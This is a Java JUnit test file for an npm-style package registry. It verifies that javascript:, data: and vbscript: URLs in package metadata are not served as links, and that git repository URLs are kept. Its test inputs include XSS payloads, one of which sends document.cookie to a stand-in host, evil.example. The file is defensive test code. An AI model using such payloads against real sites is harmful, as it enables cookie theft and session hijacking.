package dev.warden.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.warden.server.testing.Http;
import dev.warden.server.testing.Tarballs;
import dev.warden.server.testing.TestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * URLs from package.json that are not http(s) are not served as links: not in search results, not
 * as the packument's homepage or bugs URL. Repository URLs keep git's forms in the packument
 * (npm needs them) and appear in search results only as their web page.
 */
class UnsafeUrlsTest {

    static TestServer server;
    static Http http;
    static String token;

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.start();
        http = server.http();
        token = server.token("ursula");
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    private static void publish(ObjectNode manifest) throws Exception {
        Http.Result r = http.put("/" + manifest.path("name").asText(), token, Tarballs.publishBody(manifest, Tarballs.packageTgz(manifest)));
        assertThat(r.status()).as(r.body()).isEqualTo(200);
    }

    private static JsonNode searchHit(String name) throws Exception {
        JsonNode objects = http.get("/-/v1/search?text=" + name).json().path("objects");
        for (JsonNode o : objects) {
            if (o.path("package").path("name").asText().equals(name)) {
                return o.path("package");
            }
        }
        throw new AssertionError(name + " not found by search: " + objects);
    }

    @Test
    void scriptUrlsAreNotServed() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-evil", "1.0.0");
        m.put("homepage", "javascript:alert(document.cookie)");
        m.putObject("bugs").put("url", "JavaScript:alert(1)").put("email", "bugs@example.com");
        m.putObject("repository").put("type", "git").put("url", "javascript:fetch('//evil.example/'+document.cookie)");
        publish(m);

        JsonNode links = searchHit("linky-evil").path("links");
        assertThat(links.path("npm").asText()).startsWith(server.url() + "/-/web/package/");
        assertThat(links.has("homepage")).isFalse();
        assertThat(links.has("repository")).isFalse();
        assertThat(links.has("bugs")).isFalse();

        JsonNode doc = http.get("/linky-evil").json();
        for (JsonNode d : new JsonNode[] {doc, doc.path("versions").path("1.0.0"), http.get("/linky-evil/1.0.0").json()}) {
            assertThat(d.has("homepage")).isFalse();
            assertThat(d.path("bugs").has("url")).isFalse();
            assertThat(d.path("bugs").path("email").asText()).isEqualTo("bugs@example.com");
            assertThat(d.has("repository")).isFalse();
        }
        assertThat(http.get("/linky-evil").body()).doesNotContainIgnoringCase("javascript:");
        assertThat(http.get("/-/v1/search?text=linky-evil").body()).doesNotContainIgnoringCase("javascript:");
    }

    @Test
    void hiddenSchemesAndOtherSchemesAreNotServedEither() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-hidden", "1.0.0");
        m.put("homepage", " \tjavascript:alert(1)");
        m.put("bugs", "data:text/html,<script>alert(1)</script>");
        m.put("repository", "vbscript:msgbox(1)");
        publish(m);
        JsonNode doc = http.get("/linky-hidden").json();
        assertThat(doc.has("homepage")).isFalse();
        assertThat(doc.has("bugs")).isFalse();
        assertThat(doc.has("repository")).isFalse();
        assertThat(searchHit("linky-hidden").path("links").size()).isEqualTo(1);
    }

    @Test
    void gitRepositoryUrlsStayInThePackumentAndLinkToTheirWebPage() throws Exception {
        ObjectNode m = Tarballs.manifest("linky-good", "1.0.0");
        m.put("homepage", "https://example.com/linky#readme");
        m.putObject("bugs").put("url", "https://github.com/ursula/linky/issues");
        m.putObject("repository").put("type", "git").put("url", "git+https://github.com/ursula/linky.git");
        publish(m);
        JsonNode doc = http.get("/linky-good").json();
        assertThat(doc.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
        assertThat(doc.path("bugs").path("url").asText()).isEqualTo("https://github.com/ursula/linky/issues");
        assertThat(doc.path("repository").path("url").asText()).isEqualTo("git+https://github.com/ursula/linky.git");
        JsonNode links = searchHit("linky-good").path("links");
        assertThat(links.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
        assertThat(links.path("repository").asText()).isEqualTo("https://github.com/ursula/linky");

        String[] gitForms = {"git://github.com/ursula/linky.git", "git+ssh://git@github.com/ursula/linky.git",
            "ssh://git@github.com/ursula/linky.git", "git@github.com:ursula/linky.git"};
        for (int i = 0; i < gitForms.length; i++) {
            String url = gitForms[i];
            ObjectNode v = Tarballs.manifest("linky-git", "1.0." + i);
            v.putObject("repository").put("type", "git").put("url", url);
            publish(v);
            assertThat(http.get("/linky-git").json().path("repository").path("url").asText()).as(url).isEqualTo(url);
            assertThat(searchHit("linky-git").path("links").has("repository")).as(url).isFalse();
        }
    }
}
